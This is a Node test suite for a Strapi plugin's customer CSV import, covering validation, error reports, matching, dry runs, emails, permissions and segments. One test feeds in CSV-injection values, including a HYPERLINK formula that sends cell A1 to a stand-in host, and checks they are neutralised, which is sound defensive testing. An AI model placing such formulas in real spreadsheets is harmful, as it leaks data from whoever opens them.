import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Core } from '@strapi/strapi';
import Papa from 'papaparse';
import { TABLE } from '../../contracts/constants';
import { knexOf } from '../../server/src/database/knex';
import { countRows } from '../helpers/data';
import { captureEmails, importCsv } from '../helpers/imports';
import { bootStrapi, stopStrapi } from '../helpers/strapi';
import { adminWithPermissions, superAdmin, type AdminClient } from '../helpers/users';

let strapi: Core.Strapi;
let admin: AdminClient;
let emails: ReturnType<typeof captureEmails>;

const HEADER =
  'first_name,last_name,email,phone_number,gender,date_of_birth,street,house_number,zip_code,city,country,job_title,reference_id,tags,terms';

const customerByEmail = async (email: string) =>
  (await admin.get(`/segments/customers?q=${encodeURIComponent(email)}`)).body.data[0];

describe('importing customers from CSV', () => {
  before(async () => {
    strapi = await bootStrapi();
    admin = await superAdmin(strapi);
    emails = captureEmails(strapi);
  });
  after(() => stopStrapi(strapi));

  it('offers the template with every column title', async () => {
    const res = await admin.get('/segments/imports/template.csv');
    assert.equal(res.status, 200);
    assert.match(
      res.headers['content-disposition'],
      /attachment; filename="customers-template.csv"/
    );
    assert.equal(res.text.split('\r\n')[0], HEADER);
  });

  it('imports good rows, skips bad ones whole and says which line, column and why', async () => {
    const csv = [
      HEADER,
      'Jan,de Vries,Jan@Example.com,+31 030-2271710,M,23-04-1985,Kerkstraat,12a,1011 AB,Amsterdam,The Netherlands,Developer,CRM1,"vip,newsletter",2024-01-15:privacy',
      'Bad,Email,not-an-email,,,,,,,,,,,,',
      'Bad,Phone,bp@example.com,call me,,,,,,,,,,,',
      'Bad,Gender,bg@example.com,,X,,,,,,,,,,',
      'Bad,Date,bd@example.com,,,31-02-1990,,,,,,,,,',
      'Future,Date,bf@example.com,,,2999-01-01,,,,,,,,,',
      'Bad,Country,bc@example.com,,,,,,,,Narnia,,,,',
      'Bad,Ref,br@example.com,,,,,,,,,,CRM-1,,',
      'Bad,Terms,bt@example.com,,,,,,,,,,,,yesterday:privacy',
      'Anna,Smit,anna@example.com,491701234567,female,1990-01-02,,,,,Germany,,,,',
    ].join('\n');
    const job = await importCsv(strapi, admin, csv);
    assert.equal(job.status, 'completed', job.error ?? '');
    assert.deepEqual([job.created, job.updated, job.unchanged, job.failed], [2, 0, 0, 8]);
    assert.deepEqual(
      job.firstErrors.map((e) => `${e.line}:${e.column}`),
      [
        '3:email',
        '4:phone_number',
        '5:gender',
        '6:date_of_birth',
        '7:date_of_birth',
        '8:country',
        '9:reference_id',
        '10:terms',
      ]
    );
    const jan = await customerByEmail('jan@example.com');
    assert.deepEqual(
      [
        jan.fullName,
        jan.phones,
        jan.gender,
        jan.dateOfBirth,
        jan.country,
        jan.tags.sort(),
        jan.terms,
        jan.source,
      ],
      [
        'Jan de Vries',
        ['310302271710'],
        'male',
        '1985-04-23',
        'Netherlands',
        ['newsletter', 'vip'],
        [{ termId: 'privacy', givenAt: '2024-01-15' }],
        'import',
      ]
    );
    assert.equal(await customerByEmail('bp@example.com'), undefined, 'a failed row writes nothing');
  });

  it('serves the failed rows as a CSV file with line, column and reason', async () => {
    const jobs = (await admin.get('/segments/imports')).body.data;
    const res = await admin.get(`/segments/imports/${jobs[jobs.length - 1].id}/errors.csv`);
    assert.equal(res.status, 200);
    const lines = res.text.trim().split('\r\n');
    assert.equal(lines.length, 9);
    // customer_id is kept too, so that a corrected row of an export is still its customer.
    assert.match(lines[0], /^line,column,reason,customer_id,first_name/);
    assert.match(
      lines[1],
      /^3,email,"""not-an-email"" is not a valid email address",,Bad,Email,not-an-email/
    );
  });

  it('neutralises formula-like cells in the error file, and imports them back as they were', async () => {
    const formula = '=HYPERLINK("http://x"&A1,"x")';
    const csv = [
      'first_name,last_name,email,phone_number,job_title,street',
      `"${formula.replace(/"/g, '""')}",+cmd,not-an-email,+31 030-2271710,@SUM(1),-2+3`,
    ].join('\n');
    const job = await importCsv(strapi, admin, csv);
    assert.equal(job.failed, 1);
    const res = await admin.get(`/segments/imports/${job.id}/errors.csv`);
    assert.equal(res.status, 200);
    const [header, row] = Papa.parse<string[]>(res.text.trim()).data;
    const cell = (column: string) => row[header.indexOf(column)];
    assert.deepEqual(['first_name', 'last_name', 'phone_number', 'job_title', 'street'].map(cell), [
      `'${formula}`,
      "'+cmd",
      "'+31 030-2271710",
      "'@SUM(1)",
      "'-2+3",
    ]);
    for (const value of row) assert.doesNotMatch(value, /^[=+\-@\t\r]/);

    // Corrected as the docs say (the email fixed, the rest as it is) and imported again.
    const fixed = res.text.replace(',not-an-email,', ',formula@example.com,');
    const again = await importCsv(strapi, admin, fixed);
    assert.deepEqual([again.created, again.failed], [1, 0], JSON.stringify(again.firstErrors));
    const c = await customerByEmail('formula@example.com');
    assert.deepEqual(
      [c.firstName, c.lastName, c.phones, c.jobTitle, c.street],
      [formula, '+cmd', ['310302271710'], '@SUM(1)', '-2+3']
    );
  });

  it('matches on any email in any case: fills empty fields, adds tags, counts unchanged', async () => {
    await admin.post('/segments/customers', {
      firstName: 'Piet',
      emails: ['piet@example.com', 'p.work@example.org'],
      tags: ['old'],
    });
    const csv = [
      'email,first_name,last_name,city,tags',
      'P.WORK@example.org,Pieter,Jansen,Delft,"old,new"', // second address, other case: fill last name + city, add tag
      'piet@example.com,Piet,Jansen,Delft,old', // everything already there
      ',No,Email,,', // no email: always a new customer
      ',No,Email,,',
    ].join('\n');
    const job = await importCsv(strapi, admin, csv);
    assert.deepEqual([job.created, job.updated, job.unchanged, job.failed], [2, 1, 1, 0]);
    const piet = await customerByEmail('piet@example.com');
    assert.deepEqual(
      [piet.firstName, piet.lastName, piet.city, piet.tags.sort()],
      ['Piet', 'Jansen', 'Delft', ['new', 'old']]
    );
    assert.equal((await admin.get('/segments/customers?q=no email')).body.meta.pagination.total, 2);
  });

  it("matches a row with customer_id on that customer: fails an unknown id and another customer's email", async () => {
    const add = async (body: object) => {
      const res = await admin.post('/segments/customers', body);
      assert.equal(res.status, 201, JSON.stringify(res.body));
      return res.body.data as { documentId: string };
    };
    const mila = await add({ firstName: 'Mila', emails: ['mila@id.example.com'], city: 'Delft' });
    const phoneOnly = await add({ phones: ['31611223344'] });
    await add({ firstName: 'Other', emails: ['other@id.example.com'] });
    const before = await countRows(strapi, TABLE.customers);
    const csv = [
      'customer_id,email,first_name,city',
      `${mila.documentId},mila@id.example.com,Mila,Gouda`, // a changed city replaces the stored one
      `${phoneOnly.documentId},,Phone,`, // no email: matched by its id, fills the name
      `${phoneOnly.documentId},po@id.example.com,,`, // a new email is added to it
      'zzzz0000nobody0000zzzz00,ghost@id.example.com,Ghost,', // names no customer: not created
      `${mila.documentId},other@id.example.com,,`, // another customer's email: never merged
    ].join('\n');
    const job = await importCsv(strapi, admin, csv);
    assert.deepEqual(
      [job.created, job.updated, job.unchanged, job.failed],
      [0, 3, 0, 2],
      JSON.stringify(job.firstErrors)
    );
    assert.deepEqual(
      job.firstErrors.map((e) => [e.line, e.column, e.reason]),
      [
        [5, 'customer_id', 'no customer has this customer_id; leave it empty to create one'],
        [
          6,
          'email',
          '"other@id.example.com" belongs to another customer than this customer_id; customers are never merged by an import',
        ],
      ]
    );
    assert.equal(await countRows(strapi, TABLE.customers), before);
    const stored = async (documentId: string) =>
      (await admin.get(`/segments/customers/${documentId}`)).body.data;
    assert.deepEqual(
      [(await stored(mila.documentId)).city, (await stored(mila.documentId)).emails],
      ['Gouda', ['mila@id.example.com']]
    );
    const phone = await stored(phoneOnly.documentId);
    assert.deepEqual([phone.firstName, phone.emails], ['Phone', ['po@id.example.com']]);
    assert.equal((await customerByEmail('ghost@id.example.com')) ?? null, null);
  });

  it('treats two rows with the same email as imported one after the other', async () => {
    const csv = [
      'email,first_name,city,tags',
      'twice@example.com,First,,a',
      'TWICE@example.com,Second,Leiden,b',
    ].join('\n');
    const job = await importCsv(strapi, admin, csv);
    assert.deepEqual([job.created, job.updated], [1, 1]);
    const c = await customerByEmail('twice@example.com');
    assert.deepEqual([c.firstName, c.city, c.tags.sort()], ['First', 'Leiden', ['a', 'b']]);
  });

  it('reads BOM, semicolons, CRLF, quoted commas, quotes and newlines, and trailing empty lines', async () => {
    const csv =
      '\uFEFFemail;first_name;street;job_title\r\n' +
      'shape@example.com;"O\'Neil, ""Jr""";"Line one\r\nLine two";"Boss; big"\r\n\r\n\r\n';
    const job = await importCsv(strapi, admin, csv);
    assert.equal(job.status, 'completed', job.error ?? '');
    assert.deepEqual([job.created, job.failed], [1, 0]);
    const c = await customerByEmail('shape@example.com');
    assert.deepEqual(
      [c.firstName, c.street, c.jobTitle],
      ['O\'Neil, "Jr"', 'Line one\r\nLine two', 'Boss; big']
    );
  });

  it('reports an unknown column once and ignores it', async () => {
    const job = await importCsv(
      strapi,
      admin,
      'email,shoe_size\nfeet@example.com,44\nfeet2@example.com,45'
    );
    assert.deepEqual(job.unknownColumns, ['shoe_size']);
    assert.equal(job.created, 2);
  });

  it('fails a file without a header row or known column, and an empty file, with a clear message', async () => {
    const noHeader = await importCsv(strapi, admin, 'jan@example.com,Jan\npiet@example.com,Piet');
    assert.equal(noHeader.status, 'failed');
    assert.match(noHeader.error!, /first row must be the header/);
    const empty = await importCsv(strapi, admin, '');
    assert.equal(empty.status, 'failed');
    assert.match(empty.error!, /empty/);
  });

  it('fails a malformed row and keeps the rows before it', async () => {
    const job = await importCsv(
      strapi,
      admin,
      'email,first_name\nok@example.com,Ok\nbroken@example.com,"unclosed\n'
    );
    assert.equal(job.status, 'completed');
    assert.deepEqual([job.created, job.failed], [1, 1]);
    assert.match(job.firstErrors[0].reason, /quote/i);
  });

  it('does a dry run that writes nothing and says what each row would do', async () => {
    const before = await countRows(strapi, TABLE.customers);
    const csv = [
      'email,first_name,city',
      'piet@example.com,,Rotterdam',
      'dry-new@example.com,New,',
      'dry-new@example.com,,Ede',
      'piet@example.com,Piet,',
      'bad,,',
    ].join('\n');
    const job = await importCsv(strapi, admin, csv, { dryRun: true });
    assert.equal(job.dryRun, true);
    assert.deepEqual([job.created, job.updated, job.unchanged, job.failed], [1, 1, 2, 1]);
    assert.deepEqual(
      job.rows!.map((r: { action: string }) => r.action),
      ['unchanged', 'create', 'update', 'unchanged', 'fail']
    );
    assert.deepEqual(job.rows![2].fields, ['city']);
    assert.equal(await countRows(strapi, TABLE.customers), before);
    assert.equal((await customerByEmail('piet@example.com')).city, 'Delft');
  });

  it('emails the admin who started it a report with the counts and the first reasons', async () => {
    emails.length = 0;
    await importCsv(strapi, admin, 'email,gender\nreport1@example.com,F\nreport2@example.com,Q');
    assert.equal(emails.length, 1);
    assert.equal(emails[0].to, 'super-admin@example.com');
    assert.match(emails[0].subject, /1 created, 0 updated, 0 unchanged, 1 failed/);
    assert.match(emails[0].text, /New customers created: 1/);
    assert.match(emails[0].text, /line 3, gender: "Q" is not F, Female, M, Male, O or Other/);
  });

  it("emails no report when the app keeps Strapi's default email provider, sendmail", async () => {
    emails.length = 0;
    strapi.config.set('plugin::email.provider', 'sendmail');
    try {
      const job = await importCsv(strapi, admin, 'email\nno-mail@example.com');
      assert.equal(job.status, 'completed');
      assert.equal(emails.length, 0);
    } finally {
      strapi.config.set('plugin::email.provider', 'nodemailer');
    }
  });

  it('refuses (403) an upload from a role without the import permission', async () => {
    const editor = await adminWithPermissions(strapi, ['customers.read', 'customers.create']);
    const res = await editor
      .upload('/segments/imports')
      .attach('file', Buffer.from('email\nx@example.com'), 'x.csv');
    assert.equal(res.status, 403);
    assert.equal(await customerByEmail('x@example.com'), undefined);
  });

  it('answers 400 to an upload without a file', async () => {
    const res = await admin.upload('/segments/imports').field('dryRun', 'false');
    assert.equal(res.status, 400);
    assert.match(res.body.error.message, /Send one CSV file/);
  });

  it('puts imported and updated customers in the rule segments they now match', async () => {
    const res = await admin.post('/segments/segments', {
      name: 'Imported pilots',
      segmentId: 'imported-pilots',
      rules: {
        kind: 'group',
        op: 'and',
        children: [{ kind: 'field', field: 'jobTitle', operator: 'equals', value: 'Pilot' }],
      },
    });
    assert.equal(res.status, 201, JSON.stringify(res.body));
    await strapi.plugin('segments').service('segment-refresh').idle();
    await admin.post('/segments/customers', {
      firstName: 'Tess',
      emails: ['tess.pilot@example.com'],
    });
    const job = await importCsv(
      strapi,
      admin,
      `${HEADER}\nRik,Air,rik.pilot@example.com,,,,,,,,,Pilot,,,\nTess,,tess.pilot@example.com,,,,,,,,,Pilot,,,`
    );
    assert.equal(job.created, 1);
    assert.equal(job.updated, 1);
    await strapi.plugin('segments').service('segment-refresh').idle();
    for (const email of ['rik.pilot@example.com', 'tess.pilot@example.com']) {
      const found = await customerByEmail(email);
      assert.deepEqual(
        found.segments.map((s: { segmentId: string }) => s.segmentId),
        ['imported-pilots'],
        email
      );
    }
  });

  it('imports on a connection of its own, leaving the SQLite page cache and checkpoints of Strapi as they were', async (t) => {
    const knex = knexOf(strapi);
    if (!/sqlite/.test(String(knex.client.config.client))) return t.skip('SQLite only');
    const pragmas = async () => {
      const db = (await knex.client.acquireConnection()) as {
        pragma(s: string, o: { simple: boolean }): unknown;
      };
      try {
        return [
          db.pragma('cache_size', { simple: true }),
          db.pragma('wal_autocheckpoint', { simple: true }),
        ];
      } finally {
        await knex.client.releaseConnection(db);
      }
    };
    const before = await pragmas();
    let during: unknown[] = [];
    const runner = strapi.plugin('segments').service('import-runner');
    // Read the settings while the import runs: from the report step, inside the job.
    const report = strapi.plugin('segments').service('import-report');
    const progress = report.progress;
    report.progress = async (...args: unknown[]) => {
      during = await pragmas();
      return progress.apply(report, args);
    };
    try {
      const job = await importCsv(strapi, admin, `${HEADER}\nPia,Bulk,pia@example.com,,,,,,,,,,,,`);
      assert.equal(job.created, 1);
    } finally {
      report.progress = progress;
    }
    await runner.idle();
    assert.notEqual(before[1], 10000);
    assert.deepEqual(during, before, "Strapi's connection untouched while the import ran");
    assert.deepEqual(await pragmas(), before, 'and afterwards');
  });

  it('deletes the uploaded file once the job is done with it', async () => {
    const jobs = await knexOf(strapi)(TABLE.importJobs).select('file_path');
    const fs = await import('node:fs');
    assert.ok(
      jobs.length > 0 && jobs.every((j: { file_path: string }) => !fs.existsSync(j.file_path))
    );
  });
});
